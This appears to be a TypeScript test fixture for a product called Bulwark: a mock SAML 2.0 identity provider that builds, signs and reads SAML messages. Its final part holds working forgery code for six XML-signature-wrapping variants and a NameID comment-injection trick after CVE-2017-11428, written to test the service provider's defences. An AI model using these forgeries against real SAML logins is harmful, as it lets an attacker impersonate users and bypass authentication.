import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promisify } from 'node:util';
import { inflateRawSync } from 'node:zlib';
import { DOMParser, type Document, type Element, onWarningStopParsing, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { type Clock, systemClock } from '../platform/clock.ts';

/**
 * A SAML 2.0 identity provider for tests: it builds Responses and Assertions as XML and signs them with
 * xml-crypto (RSA-SHA256, exclusive c14n, enveloped signatures, as real IdPs do), and it forges the classic
 * XML-signature-wrapping shapes from a signed Response. It has no HTTP side: a test takes the redirect URL
 * Bulwark produced, reads the AuthnRequest out of it (`readAuthnRequest`), and POSTs `responseBase64(...)`
 * as `SAMLResponse` to the ACS URL.
 *
 * @example
 * const idp = await SamlTestIdp.create();
 * const request = idp.readAuthnRequest(startRedirectUrl);
 * const SAMLResponse = idp.responseBase64({
 *   sp: { entityId, acsUrl }, inResponseTo: request.id, sign: 'assertion',
 *   nameId: 'alice@example.com', attributes: { email: 'alice@example.com', groups: ['admins', 'dev'] },
 * });
 */

export const samlNs = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  dsig: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

export const samlNameIdFormats = {
  emailAddress: 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress',
  persistent: 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent',
  transient: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient',
} as const;

export const samlStatusCodes = {
  success: 'urn:oasis:names:tc:SAML:2.0:status:Success',
  requester: 'urn:oasis:names:tc:SAML:2.0:status:Requester',
  responder: 'urn:oasis:names:tc:SAML:2.0:status:Responder',
  authnFailed: 'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed',
} as const;

/** An RSA key pair and a self-signed certificate of its public key, PEM. */
export interface SamlSigningKey {
  privateKeyPem: string;
  certificatePem: string;
}

/** A fresh RSA-2048 key and a self-signed X.509 certificate (valid two days), from `openssl req -x509`. */
export async function createSamlSigningKey(commonName = 'Bulwark test IdP'): Promise<SamlSigningKey> {
  const { stdout } = await promisify(execFile)('openssl', [
    'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-sha256', '-days', '2',
    '-subj', `/CN=${commonName}`, '-keyout', '-', '-out', '-',
  ]);
  const privateKeyPem = /-----BEGIN PRIVATE KEY-----[^-]+-----END PRIVATE KEY-----\n/.exec(stdout)?.[0];
  const certificatePem = /-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----\n/.exec(stdout)?.[0];
  if (privateKeyPem === undefined || certificatePem === undefined) throw new Error('openssl printed no key and certificate');
  return { privateKeyPem, certificatePem };
}

/** The service provider the IdP answers: its entity id (the audience) and its ACS URL (recipient, destination). */
export interface SamlTestSp {
  entityId: string;
  acsUrl: string;
}

/** What goes into one Assertion. Every time defaults from the IdP's clock; `null` leaves the item out. */
export interface SamlAssertionOptions {
  sp: SamlTestSp;
  nameId: string;
  /** Default `samlNameIdFormats.emailAddress`; `null` leaves the Format attribute out. */
  nameIdFormat?: string | null;
  /** Attribute name to value(s); an array gives one AttributeValue per element. */
  attributes?: Record<string, string | readonly string[]>;
  /** The AuthnRequest answered: SubjectConfirmationData@InResponseTo, and the Response's unless overridden. */
  inResponseTo?: string;
  /** Default a fresh random id. */
  assertionId?: string;
  /** Default the IdP's entity id. */
  issuer?: string;
  /** AudienceRestriction/Audience; default `sp.entityId`; `null` leaves AudienceRestriction out. */
  audience?: string | null;
  /** SubjectConfirmationData@Recipient; default `sp.acsUrl`. */
  recipient?: string | null;
  issueInstant?: Date;
  /** Conditions@NotBefore; default 30 s before now. */
  notBefore?: Date | null;
  /** Conditions@NotOnOrAfter; default 5 min after now. */
  notOnOrAfter?: Date | null;
  /** SubjectConfirmationData@NotBefore; absent by default (the Web SSO profile forbids it for bearer). */
  subjectNotBefore?: Date;
  /** SubjectConfirmationData@NotOnOrAfter; default 5 min after now. */
  subjectNotOnOrAfter?: Date | null;
  /** SubjectConfirmation@Method; default bearer. */
  confirmationMethod?: string;
}

/** Which parts carry an enveloped signature. 'both' signs the assertion, then the response around it. */
export type SamlSignedParts = 'assertion' | 'response' | 'both' | 'none';

export interface SamlResponseOptions extends SamlAssertionOptions {
  sign: SamlSignedParts;
  /** Default the IdP's own key; another key stands for an attacker's. */
  signingKey?: SamlSigningKey;
  responseId?: string;
  /** Response@Destination; default `sp.acsUrl`. */
  destination?: string | null;
  /** Response@InResponseTo; default `inResponseTo`. */
  responseInResponseTo?: string | null;
  /** Top-level StatusCode; default success. */
  statusCode?: string;
  statusMessage?: string;
  /** Whether the Response carries the assertion; default: when the status is success. */
  withAssertion?: boolean;
}

/** What an SP asked for in an HTTP-Redirect AuthnRequest. */
export interface SeenAuthnRequest {
  id: string;
  issuer: string | undefined;
  acsUrl: string | undefined;
  destination: string | undefined;
  protocolBinding: string | undefined;
  nameIdFormat: string | undefined;
  relayState: string | undefined;
  /** Whether the redirect carried a Signature parameter (Bulwark's AuthnRequests are unsigned). */
  signed: boolean;
}

const rsaSha256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const sha256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const excC14n = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const enveloped = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
const bearer = 'urn:oasis:names:tc:SAML:2.0:cm:bearer';

const responseXPath = "/*[local-name(.)='Response']";
const assertionXPath = `${responseXPath}/*[local-name(.)='Assertion']`;

function freshId(): string {
  // An xs:ID is an NCName: it may not start with a digit.
  return `_${randomBytes(16).toString('hex')}`;
}

function escapeXml(value: string): string {
  return value.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

function attr(name: string, value: string | null | undefined): string {
  return value === null || value === undefined ? '' : ` ${name}="${escapeXml(value)}"`;
}

function instant(date: Date | null | undefined): string | undefined {
  return date?.toISOString();
}

function signEnveloped(xml: string, key: SamlSigningKey, target: string): string {
  const signature = new SignedXml({
    privateKey: key.privateKeyPem,
    publicCert: key.certificatePem,
    signatureAlgorithm: rsaSha256,
    canonicalizationAlgorithm: excC14n,
  });
  signature.addReference({ xpath: target, transforms: [enveloped, excC14n], digestAlgorithm: sha256 });
  // Schema order: the Signature follows the Issuer in both Response and Assertion.
  signature.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: `${target}/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signature.getSignedXml();
}

function parseXml(xml: string): Document {
  return new DOMParser({ onError: onWarningStopParsing }).parseFromString(xml, 'text/xml');
}

function childElement(parent: Element, namespace: string, localName: string): Element {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === node.ELEMENT_NODE) {
      const element = node as Element;
      if (element.namespaceURI === namespace && element.localName === localName) return element;
    }
  }
  throw new Error(`no ${localName} under ${parent.localName}`);
}

export class SamlTestIdp {
  readonly entityId: string;
  readonly ssoUrl: string;
  readonly key: SamlSigningKey;
  readonly #clock: Clock;

  private constructor(entityId: string, ssoUrl: string, key: SamlSigningKey, clock: Clock) {
    this.entityId = entityId;
    this.ssoUrl = ssoUrl;
    this.key = key;
    this.#clock = clock;
  }

  /** A new IdP with its own key (or the one given, to share a slow key generation between IdPs). */
  static async create(
    options: { entityId?: string; ssoUrl?: string; key?: SamlSigningKey; clock?: Clock } = {},
  ): Promise<SamlTestIdp> {
    return new SamlTestIdp(
      options.entityId ?? 'https://idp.example.test/metadata',
      options.ssoUrl ?? 'https://idp.example.test/sso',
      options.key ?? (await createSamlSigningKey()),
      options.clock ?? systemClock,
    );
  }

  /** The connection settings an admin would copy from this IdP's metadata. */
  connection(): { idpEntityId: string; idpSsoUrl: string; idpCertificates: string[] } {
    return { idpEntityId: this.entityId, idpSsoUrl: this.ssoUrl, idpCertificates: [this.key.certificatePem] };
  }

  /** An unsigned Assertion element, standalone (it declares its namespace): also the raw material of forgeries. */
  assertionXml(options: SamlAssertionOptions): string {
    const now = options.issueInstant ?? this.#clock.now();
    const later = new Date(now.getTime() + 300_000);
    const notBefore = options.notBefore === undefined ? new Date(now.getTime() - 30_000) : options.notBefore;
    const notOnOrAfter = options.notOnOrAfter === undefined ? later : options.notOnOrAfter;
    const subjectNotOnOrAfter = options.subjectNotOnOrAfter === undefined ? later : options.subjectNotOnOrAfter;
    const audience = options.audience === undefined ? options.sp.entityId : options.audience;
    const recipient = options.recipient === undefined ? options.sp.acsUrl : options.recipient;
    const format = options.nameIdFormat === undefined ? samlNameIdFormats.emailAddress : options.nameIdFormat;
    const attributes = Object.entries(options.attributes ?? {}).map(([name, value]) => {
      const values = typeof value === 'string' ? [value] : value;
      const xmlValues = values.map((v) => `<saml:AttributeValue>${escapeXml(v)}</saml:AttributeValue>`).join('');
      return `<saml:Attribute${attr('Name', name)}>${xmlValues}</saml:Attribute>`;
    });
    return [
      `<saml:Assertion xmlns:saml="${samlNs.assertion}"${attr('ID', options.assertionId ?? freshId())}`,
      ` Version="2.0"${attr('IssueInstant', now.toISOString())}>`,
      `<saml:Issuer>${escapeXml(options.issuer ?? this.entityId)}</saml:Issuer>`,
      `<saml:Subject><saml:NameID${attr('Format', format)}>${escapeXml(options.nameId)}</saml:NameID>`,
      `<saml:SubjectConfirmation${attr('Method', options.confirmationMethod ?? bearer)}>`,
      '<saml:SubjectConfirmationData',
      attr('NotBefore', instant(options.subjectNotBefore)),
      attr('NotOnOrAfter', instant(subjectNotOnOrAfter)),
      attr('Recipient', recipient),
      attr('InResponseTo', options.inResponseTo),
      '/></saml:SubjectConfirmation></saml:Subject>',
      `<saml:Conditions${attr('NotBefore', instant(notBefore))}${attr('NotOnOrAfter', instant(notOnOrAfter))}>`,
      audience === null ? '' : `<saml:AudienceRestriction><saml:Audience>${escapeXml(audience)}</saml:Audience></saml:AudienceRestriction>`,
      '</saml:Conditions>',
      `<saml:AuthnStatement${attr('AuthnInstant', now.toISOString())}${attr('SessionIndex', freshId())}>`,
      '<saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext>',
      '</saml:AuthnStatement>',
      attributes.length === 0 ? '' : `<saml:AttributeStatement>${attributes.join('')}</saml:AttributeStatement>`,
      '</saml:Assertion>',
    ].join('');
  }

  /** A whole Response, signed as `options.sign` says. */
  responseXml(options: SamlResponseOptions): string {
    const now = options.issueInstant ?? this.#clock.now();
    const statusCode = options.statusCode ?? samlStatusCodes.success;
    const withAssertion = options.withAssertion ?? statusCode === samlStatusCodes.success;
    const destination = options.destination === undefined ? options.sp.acsUrl : options.destination;
    const inResponseTo = options.responseInResponseTo === undefined ? options.inResponseTo : options.responseInResponseTo;
    const statusMessage =
      options.statusMessage === undefined ? '' : `<samlp:StatusMessage>${escapeXml(options.statusMessage)}</samlp:StatusMessage>`;
    const xml = [
      `<samlp:Response xmlns:samlp="${samlNs.protocol}" xmlns:saml="${samlNs.assertion}"`,
      `${attr('ID', options.responseId ?? freshId())} Version="2.0"${attr('IssueInstant', now.toISOString())}`,
      `${attr('Destination', destination)}${attr('InResponseTo', inResponseTo)}>`,
      `<saml:Issuer>${escapeXml(options.issuer ?? this.entityId)}</saml:Issuer>`,
      `<samlp:Status><samlp:StatusCode${attr('Value', statusCode)}/>${statusMessage}</samlp:Status>`,
      withAssertion ? this.assertionXml({ ...options, issueInstant: now }) : '',
      '</samlp:Response>',
    ].join('');
    // Without an assertion, only the Response can carry a signature.
    const responseOnly = options.sign === 'response' || options.sign === 'both' ? 'response' : 'none';
    return signSamlResponse(xml, options.signingKey ?? this.key, withAssertion ? options.sign : responseOnly);
  }

  /** `responseXml` as the HTTP-POST binding carries it: the `SAMLResponse` form field. */
  responseBase64(options: SamlResponseOptions): string {
    return toSamlBase64(this.responseXml(options));
  }

  /** Reads the AuthnRequest out of an HTTP-Redirect URL (SAMLRequest: deflated, base64; RelayState). */
  readAuthnRequest(redirectUrl: string): SeenAuthnRequest {
    const url = new URL(redirectUrl);
    const encoded = url.searchParams.get('SAMLRequest');
    if (encoded === null) throw new Error('the redirect carries no SAMLRequest');
    const request = parseXml(inflateRawSync(Buffer.from(encoded, 'base64')).toString('utf8')).documentElement;
    if (request?.namespaceURI !== samlNs.protocol || request.localName !== 'AuthnRequest') {
      throw new Error('the SAMLRequest is not an AuthnRequest');
    }
    const id = request.getAttribute('ID');
    if (id === null) throw new Error('the AuthnRequest has no ID');
    const optional = (value: string | null | undefined) => value ?? undefined;
    const nameIdPolicy = request.getElementsByTagNameNS(samlNs.protocol, 'NameIDPolicy')[0];
    return {
      id,
      issuer: optional(request.getElementsByTagNameNS(samlNs.assertion, 'Issuer')[0]?.textContent),
      acsUrl: optional(request.getAttribute('AssertionConsumerServiceURL')),
      destination: optional(request.getAttribute('Destination')),
      protocolBinding: optional(request.getAttribute('ProtocolBinding')),
      nameIdFormat: optional(nameIdPolicy?.getAttribute('Format')),
      relayState: optional(url.searchParams.get('RelayState')),
      signed: url.searchParams.has('Signature'),
    };
  }
}

/**
 * Signs a Response document (one built by hand, or `responseXml({ sign: 'none' })` edited) the way an IdP
 * does: the assertion first, then the Response around it.
 */
export function signSamlResponse(xml: string, key: SamlSigningKey, sign: SamlSignedParts): string {
  let signed = xml;
  if (sign === 'assertion' || sign === 'both') signed = signEnveloped(signed, key, assertionXPath);
  if (sign === 'response' || sign === 'both') signed = signEnveloped(signed, key, responseXPath);
  return signed;
}

export function toSamlBase64(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

/**
 * XML signature wrapping (Somorovsky et al., "On Breaking SAML", USENIX Security 2012): an attacker keeps a
 * genuinely signed element where the signature check finds it and puts a forged assertion where the
 * application reads. Each variant takes a Response as the IdP signed it and the attacker's (unsigned)
 * assertion from `assertionXml`.
 *
 * - `sibling-assertion` (XSW3): the forged assertion goes before the signed one, both children of Response.
 * - `assertion-in-extensions` (XSW7): the signed assertion moves into samlp:Extensions; the forged one takes
 *   its place with its ID and a copy of its Signature.
 * - `forged-wraps-signed` (XSW4): the forged assertion takes the signed one's place and holds it as a child.
 * - `assertion-signature-object` (XSW6): the forged assertion takes the signed one's place with its ID and a
 *   copy of its Signature, whose ds:Object holds the original.
 * - `response-signature-object` (XSW8 on the Response): the forged assertion goes into a ds:Object inside
 *   the Response's own Signature, which the enveloped-signature transform leaves out of the digest, so the
 *   Response signature still verifies. Needs a signed Response.
 * - `response-wraps-signed-response` (XSW1): a forged Response (new ID, the forged assertion) carries a copy
 *   of the original Response's Signature, whose ds:Object holds the whole original. Needs a signed Response.
 */
export type XswVariant =
  | 'sibling-assertion'
  | 'assertion-in-extensions'
  | 'forged-wraps-signed'
  | 'assertion-signature-object'
  | 'response-signature-object'
  | 'response-wraps-signed-response';

export function wrapSignature(signedResponseXml: string, forgedAssertionXml: string, variant: XswVariant): string {
  const doc = parseXml(signedResponseXml);
  const response = doc.documentElement;
  if (response === null) throw new Error('empty document');
  const signed = childElement(response, samlNs.assertion, 'Assertion');
  const forgedDoc = parseXml(forgedAssertionXml).documentElement;
  if (forgedDoc === null) throw new Error('empty forged assertion');
  const forged = doc.importNode(forgedDoc, true);
  const takeOver = (): Element => {
    // The forged assertion poses as the signed one: same ID, the same Signature after its Issuer.
    forged.setAttribute('ID', signed.getAttribute('ID') ?? '');
    const signature = childElement(signed, samlNs.dsig, 'Signature').cloneNode(true) as Element;
    forged.insertBefore(signature, childElement(forged, samlNs.assertion, 'Issuer').nextSibling);
    response.replaceChild(forged, signed);
    return signature;
  };
  switch (variant) {
    case 'sibling-assertion':
      response.insertBefore(forged, signed);
      break;
    case 'assertion-in-extensions': {
      takeOver();
      const extensions = doc.createElementNS(samlNs.protocol, 'samlp:Extensions');
      extensions.appendChild(signed);
      response.insertBefore(extensions, childElement(response, samlNs.assertion, 'Issuer').nextSibling);
      break;
    }
    case 'forged-wraps-signed':
      response.replaceChild(forged, signed);
      forged.appendChild(signed);
      break;
    case 'assertion-signature-object': {
      const object = doc.createElementNS(samlNs.dsig, 'ds:Object');
      takeOver().appendChild(object);
      object.appendChild(signed);
      break;
    }
    case 'response-signature-object': {
      const object = doc.createElementNS(samlNs.dsig, 'ds:Object');
      object.appendChild(forged);
      childElement(response, samlNs.dsig, 'Signature').appendChild(object);
      break;
    }
    case 'response-wraps-signed-response': {
      const original = response.cloneNode(true) as Element;
      const signature = childElement(response, samlNs.dsig, 'Signature');
      const object = doc.createElementNS(samlNs.dsig, 'ds:Object');
      object.appendChild(original);
      signature.appendChild(object);
      response.setAttribute('ID', freshId());
      response.replaceChild(forged, signed);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}

/**
 * Splits the text of the signed NameID with an XML comment after `at` characters (CVE-2017-11428 and kin):
 * exclusive c14n drops comments, so the signature still verifies, and a parser that reads only the first
 * text node sees a shorter, different name.
 */
export function insertCommentInNameId(signedXml: string, at: number): string {
  const doc = parseXml(signedXml);
  const nameId = doc.getElementsByTagNameNS(samlNs.assertion, 'NameID')[0];
  if (nameId === undefined) throw new Error('no NameID');
  const value = nameId.textContent ?? '';
  while (nameId.firstChild !== null) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(value.slice(0, at)));
  nameId.appendChild(doc.createComment(''));
  nameId.appendChild(doc.createTextNode(value.slice(at)));
  return new XMLSerializer().serializeToString(doc);
}
